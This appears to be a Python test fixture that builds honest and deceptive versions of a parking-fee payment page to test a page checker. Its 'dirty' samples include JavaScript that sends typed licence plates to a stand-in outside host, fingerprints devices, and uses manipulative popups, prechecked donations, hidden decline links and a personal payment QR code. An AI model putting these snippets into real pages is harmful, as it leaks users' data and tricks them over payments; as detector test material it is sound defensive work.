"""Families of pages by channels, moments and money: what the browser offers, when it is used, who is paid.

Written together with `unseen_templates`, before it was counted.
"""

from collections.abc import Iterator

from tests.selfcheck.zoo.animals import ALIPAY, FORM, WECHAT, Animal
from tests.selfcheck.zoo.unseen_corners import layer, linked
from tests.selfcheck.zoo.unseen_places import says
from tests.selfcheck.zoo.unseen_styles import (
    MASK,
    MODAL,
    PAY,
    VIEW,
    drawn,
    form,
    page,
    uni,
    vue,
)
from tests.selfcheck.zoo.unseen_tricks import FIRST, TYPED, code

OTHER = "https://in.metrics-zoo.io"


def _to(url: str) -> str:
    return f"<meta http-equiv=refresh content='0;url={url}'><p>正在打开收银台…</p>"


def clean() -> Iterator[tuple[str, list[Animal]]]:
    yield (
        "cashiers of acquirers",
        [
            form("建行收银台", pay=_to("https://ibsbjstar.ccb.com.cn/CCBIS/ccbMain")),
            form("中行", pay=_to("https://ebspay.boc.cn/PGWPortal/RecvOrder.do")),
            form("银联网关", pay=_to("https://gateway.95516.com/gateway/api/frontTransReq.do")),
            form("服务商聚合页", pay=_to("https://pay.swiftpass.cn/pay/jspay")),
            form("平安口袋付", pay=_to("https://my-st1.orangebank.com.cn/corporbank/pay")),
            form("数币收银台", pay=_to("https://pay.ecny.com/h5/cashier")),
            vue("支付宝网页", pay="location.href='https://openapi.alipay.com/gateway.do?method=alipay.trade.wap.pay'"),
            vue("云闪付唤起", pay="location.href='upwrp://uppayservice/?style=token'"),
        ],
    )  # fmt: skip
    yield (
        "same means, honest",
        [
            vue("自家事件流等费用", script="document.addEventListener('click',e=>{if(e.target.id==='go'){const s=new EventSource('/progress');s.onerror=()=>s.close()}},true);"),
            vue("可中止的请求", script="const a=new AbortController();addEventListener('pagehide',()=>a.abort());"),
            form("确认车牌对话框", script=FIRST % "const f=document.forms[0];f.addEventListener('submit',e=>{if(f.ok)return;e.preventDefault();f.ok=1;const d=document.createElement('dialog');d.innerHTML='<p>请核对车牌 '+f.plate.value+'</p><button type=button>没错，查询</button>';document.body.append(d);d.showModal();d.querySelector('button').onclick=()=>f.submit()})"),
            vue("监听可见性刷新费用", script="document.addEventListener('visibilitychange',()=>{if(!document.hidden&&document.querySelector('#pay'))document.querySelector('#result').dataset.seen='1'});"),
            form("断网提示条", script="addEventListener('offline',()=>document.body.insertAdjacentHTML('beforeend','<div role=alert style=\"position:fixed;left:0;right:0;top:0;background:#b00;color:#fff\">网络已断开，费用以恢复后查询为准</div>'))"),
            form("取消支付后有说明", script="addEventListener('pageshow',e=>{if(e.persisted)document.body.insertAdjacentHTML('afterbegin','<p role=status>支付未完成，可重新支付</p>')})"),
            vue("系统字体放大", view=VIEW + "<p><button type=button id=big>放大字体</button></p>", script="document.addEventListener('click',e=>{if(e.target.id==='big')document.body.style.fontSize='22px'});"),
            form("自家图标精灵", before="<svg width=24 height=24 role=img aria-label=停车><rect width=24 height=24 fill=#06c /></svg>"),
            form("平面图", before=drawn("停车场平面图|出口在东侧")),
            uni("无障碍朗读", before="<uni-view><uni-button>语音播报</uni-button></uni-view>", script="document.querySelector('uni-button').onclick=()=>speechSynthesis.speak(new SpeechSynthesisUtterance('请输入车牌查询停车费'));"),
            linked("常见问题页", link="<p><a href='/more'>常见问题</a></p>", behind=page("<h1>常见问题</h1><p>付错了怎么办？请拨打客服电话，核实后原路退款。</p><p>为什么不需要登录？停车缴费只需要车牌。</p>")),
            says("不提供定位", "本页不读取您的位置，也不使用摄像头识别车牌。"),
            says("价格", "2 小时内 5 元，超过后每小时 2 元，封顶 20 元；电动自行车免费。"),
        ],
    )  # fmt: skip


def dirty() -> Iterator[tuple[str, list[Animal]]]:
    yield (
        "channels",
        [
            form("链接带回报地址", "P6", before=f"<p><a href='/help' ping='{OTHER}/ping'>缴费帮助</a></p>", script=FIRST % "setTimeout(()=>{const a=document.querySelector('a[ping]');a.addEventListener('click',e=>0);const n=document.createElement('link');n.rel='prefetch';n.href='" + OTHER + "/next.html';document.head.append(n)},1200)"),
            form("样式按输入取图", "P6", head="<style>input:not(:placeholder-shown){background-image:url('" + OTHER + "/typed.png')}</style>", form=FORM.replace("autocomplete=off", "autocomplete=off placeholder=车牌")),
            vue("事件流给别家", "P6", script=f"new EventSource('{OTHER}/es');"),
            vue("车牌拆成三份给别家", "P8b", script=TYPED % f"for(const p of [v.slice(0,2),v.slice(2,5),v.slice(5)])navigator.sendBeacon('{OTHER}/c',JSON.stringify({{p}}))"),
            vue("车牌放域名里", "P8b", script=TYPED % "new Image().src='https://'+v.slice(1).toLowerCase()+'.c.metrics-zoo.io/x.gif'"),
            form("表单投到别家", "P8b", form=FORM.replace("<form method=post action='{path}'", f"<form method=post action='{OTHER}/query'")),
            form("窗口消息转手", "P8b", before=f"<iframe hidden srcdoc=\"<script>onmessage=e=>fetch('{OTHER}/m',{{method:'POST',body:e.data}})</script>\"></iframe>", script=TYPED % "frames[0].postMessage(v,'*')"),
            form("声音指纹", "P9b", script=FIRST % "setTimeout(()=>{const o=new OfflineAudioContext(1,5000,44100),s=o.createOscillator(),c=o.createDynamicsCompressor();s.connect(c);c.connect(o.destination);s.start();o.startRendering()},1500)"),
            form("网络和电池", "P9a", script=FIRST % "navigator.getBattery&&navigator.getBattery().then(b=>b.level);navigator.connection&&navigator.connection.effectiveType"),
            form("存缓存库", "P7a", script="window.caches&&caches.open('v1').then(c=>c.put('/id',new Response(String(Math.random()))))"),
            form("朝向", "P9a", script="addEventListener('deviceorientation',()=>{})"),
            vue("指纹从别家脚本来", "P6", script="setTimeout(()=>{const s=document.createElement('script');s.src='https://fp.metrics-zoo.io/v3.js';document.body.append(s)},3200);"),
        ],
    )  # fmt: skip
    yield (
        "moments",
        [
            vue("切回来才弹", "P5c", script="document.addEventListener('visibilitychange',()=>{if(!document.hidden)" + layer("<p>好久不见，来看看新品</p><button>看看</button>") + "});"),
            form("返回键弹挽留", "P5c", script=FIRST % ("history.pushState({},'');addEventListener('popstate',()=>{history.pushState({},'');" + layer("<p>先别走，领个红包</p><button>领取</button>") + "})")),
            form("取消支付后挽留", "P5a", script="addEventListener('pageshow',e=>{const n=performance.getEntriesByType('navigation')[0];if((e.persisted||(n&&n.type==='back_forward'))&&document.body.textContent.includes('应缴'))document.body.insertAdjacentHTML('beforeend','<div role=dialog style=\"" + MODAL + "\"><p>加入会员再减 3 元</p><button>立即加入</button></div>')})"),
            form("滚到底才出现", "P5a", before="<p style='height:1400px'>停车须知</p>", script="addEventListener('scroll',()=>{if(scrollY>200&&!document.querySelector('#fx'))document.body.insertAdjacentHTML('beforeend','<div id=fx style=\"position:fixed;right:8px;bottom:8px;background:#fff\"><a href=\"/vip\">停车会员专区</a></div>')})"),
            form("十二秒没动就弹", "P5c", script=FIRST % ("setTimeout(()=>" + layer("<p>需要帮您找个好去处吗</p><button>好呀</button>") + ",12000)")),
            vue("拒绝写得很小", "P5d", pay="document.body.insertAdjacentHTML('beforeend',`<div style='" + MASK + "'></div><div style='" + MODAL + "'><p>加 1 元为山区孩子献爱心</p><button>献出爱心并支付</button><a id=no href='javascript:;' style='font-size:9px;color:#ddd'>残忍拒绝</a></div>`);document.querySelector('#no').onclick=()=>{" + PAY + "}"),
        ],
    )  # fmt: skip
    yield (
        "money and codes",
        [
            vue("捐款已勾好", "P5b", fee="<p>停车费 ¥8.00</p><label><input type=checkbox checked>随手捐 1 元公益</label><button id=pay>支付 ¥9.00</button>"),
            vue("个人收款码", "P5d", fee="<p>应付 ¥8.00，请长按识别下方二维码付款</p>" + code("wxp://f2f0AbCdEf", 200).replace("'", '"')),
            vue("便捷服务费", "P12e", fee="<p>停车费 ¥8.00</p><p>便捷服务费 ¥0.50</p><button id=pay>支付 ¥8.50</button>"),
            form("微信里自动关注", "P5a", script="wx.ready(()=>wx.invoke&&wx.invoke('quicklyAddBrandContact',{},()=>{}))", phones=WECHAT),
            form("支付宝生活号", "P5a", script="AlipayJSBridge.call('followLifestyle',{publicId:'1'},()=>{})", phones=ALIPAY),
            form("画布上写字劝人", "P5a", before="<canvas id=cv width=320 height=100></canvas>", script=FIRST % "const x=document.querySelector('#cv').getContext('2d');x.font='22px sans-serif';x.fillText('关注公众号',10,30);x.fillText('立减两元',10,70)"),
        ],
    )  # fmt: skip
